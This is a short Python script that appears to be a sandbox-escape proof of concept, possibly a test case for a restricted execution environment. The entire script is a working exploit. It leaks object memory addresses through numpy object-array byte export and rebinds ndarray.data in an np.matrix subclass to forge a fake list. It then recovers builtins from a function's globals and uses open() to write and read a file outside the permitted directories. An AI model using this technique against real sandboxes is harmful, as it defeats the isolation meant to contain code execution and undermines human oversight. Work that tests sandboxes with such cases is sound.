# source: numpy ndarray.data setter (numpy getset.c array_data_set) + object-array buffer export (bytes(arr) gives PyObject* values) + fake PyListObject technique (pyjail / CTF write-ups)
# family: numpy object-array memory: class derived from np.matrix rebinds self.data; pointer leak with bytes(object_array)
# goal: builtins from a function's globals -> open() writes /dev/shm/sandexec_pwn outside the allowed paths, reads it back
import numpy as np


class Grid(np.matrix):
    def point(self, raw):
        self.data = raw
        return self


def loc(obj):
    cell = np.empty(1, dtype=object)
    cell[0] = obj
    return int.from_bytes(bytes(cell), "little")


def alpha():
    return 0.0


hold = []
head = [1 << 40, loc(list), 2, loc(alpha) + 16, 2]
img = b"".join(v.to_bytes(8, "little") for v in head)
hold.append(img)
raw = bytearray((loc(img) + 32).to_bytes(8, "little"))
hold.append(raw)
grid = np.empty((1, 1), dtype=object).view(Grid).point(raw)
items = grid[0, 0]
table = items[1]
opener = table["open"]
target = "/".join(["", "dev", "shm", "sandexec_pwn"])
with opener(target, "w") as fh:
    fh.write("written outside /data and the script dir\n")
print(target, opener(target).read())
